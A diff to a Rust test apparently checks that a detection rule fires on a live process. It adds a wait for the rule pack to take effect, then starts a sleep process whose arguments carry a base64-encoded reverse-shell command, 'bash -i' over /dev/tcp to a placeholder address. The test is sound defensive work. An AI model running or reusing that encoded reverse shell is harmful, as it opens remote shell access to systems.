@@ -180,7 +180,8 @@ fn the_rule_fires_on_one_live_process_in_every_language() {
     drop(examples.judge());
     let home = Home::new();
     home.add_pack(&examples.pack());
-    let agent = Agent::start(&home);
+    let mut agent = Agent::start(&home);
+    agent.wait_until("in force", |status| status["packs"].to_string().contains("\"example\""));
     let hidden = "YmFzaCAtaSA+JiAvZGV2L3RjcC8xLjIuMy40LzQ0NDQ=";
     let mut shell = Command::new("/bin/sh");
     shell.args(["-c", "exec sleep 120", "base64", hidden]);
